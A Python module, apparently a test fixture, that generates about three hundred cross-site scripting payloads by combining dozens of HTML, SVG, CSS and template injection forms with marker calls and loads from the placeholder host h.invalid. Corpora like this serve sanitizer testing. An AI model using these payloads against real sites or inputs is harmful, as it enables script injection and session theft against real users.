"""Three hundred texts that try to become something else in a page: markup, script, styles, addresses."""

from __future__ import annotations

from itertools import product

CALLS = ("alert(1)", "confirm`1`", "document.title='x'", "fetch('//h.invalid')", "import('//h.invalid')", "top.x=1")
FORMS = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "</title><script>{}</script>", "</text></g></svg><img src=x onerror={}>",
    '"><img src=x onerror={}>', "' onfocus={} autofocus x='", '" onmouseover="{}', "</style><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{}>x</a>", "javascript:{}",
    "<details open ontoggle={}>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<animate onbegin={} attributeName=x dur=1s>", "<body onload={}>", "<input autofocus onfocus={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "--><script>{}</script><!--",
    "]]><script>{}</script>", "<template><script>{}</script></template>", "<video><source onerror={}></video>",
    "<marquee onstart={}>", "<use href=data:image/svg+xml,<svg/onload={}>>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;", "<script>{}</script>", "<scr\x00ipt>{}</scr\x00ipt>", "<<script>{}//<</script>",
    "<img/src='x'/onerror={}>", "<style>@import '//h.invalid/{}'</style>",
    "<link rel=stylesheet href=//h.invalid/{}>", "<base href=//h.invalid/{}>",
    "<meta http-equiv=refresh content=0;url=//h.invalid/{}>", "<form action=//h.invalid/{}><button>x</button></form>",
    "url(//h.invalid/{})", "expression({})", "\u202e<script>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<image href=//h.invalid/{}>", "<foreignObject><img src=x onerror={}></foreignObject>",
    "<set attributeName=onload to={}>", "<portal src=//h.invalid/{}>", "<p style=background:url(//h.invalid/{})>",
    'n0"><script>{}</script>', "<isindex onfocus={} autofocus>", '" tabindex=0 autofocus onfocusin={} x="',
)  # fmt: skip
PAYLOADS = [form.format(call) for form, call in product(FORMS, CALLS)]
